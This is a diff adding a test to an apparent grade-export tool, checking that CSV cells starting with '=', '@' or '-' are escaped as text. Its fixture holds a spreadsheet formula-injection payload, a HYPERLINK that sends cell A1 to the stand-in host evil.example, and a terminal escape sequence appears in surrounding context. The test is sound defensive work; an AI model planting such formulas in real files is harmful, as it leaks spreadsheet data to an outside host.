@@ -23,3 +23,19 @@ def test_grade_csvs_carry_no_terminal_escape_sequences(tmp_path):
     (row,) = list(csv.DictReader(path.open(newline="")))
     assert "raised ValueError: \\x1b]0;PWNED\\x07" in row["message"]          # still says what was raised
     assert row["comment"] == "line one\nline two"                               # the grader's own text as written
+
+
+def test_a_name_or_message_that_starts_a_formula_is_written_as_text(tmp_path):
+    """A roster name or a student's exception message like ``=HYPERLINK(...)`` must not become a formula when the
+    instructor opens grades.csv or the LMS import file in a spreadsheet."""
+    path = tmp_path / "grades_by_cell.csv"
+    rows = [dict(student_id="canvas-222", assignment="02", notebook="02", cell="test_x", kind="autograded",
+                 score=0.0, max_score=3.0, needs_manual_grade=False,
+                 message='=HYPERLINK("http://evil.example/?"&A1,"click")', comment="@SUM(A1:A9)"),
+            dict(student_id="canvas-333", assignment="02", notebook="02", cell="test_y", kind="autograded",
+                 score=3.0, max_score=3.0, needs_manual_grade=False, message="-2.5 is a number", comment="-1")]
+    grades._write_csv(path, grades.CELL_COLUMNS, rows)
+    first, second = list(csv.DictReader(path.open(newline="")))
+    assert first["message"].startswith("'=HYPERLINK(") and first["comment"] == "'@SUM(A1:A9)", first
+    assert second["comment"] == "-1", second                                   # a negative number stays a number
+    assert second["message"] == "'-2.5 is a number", second                    # text that starts with - does not
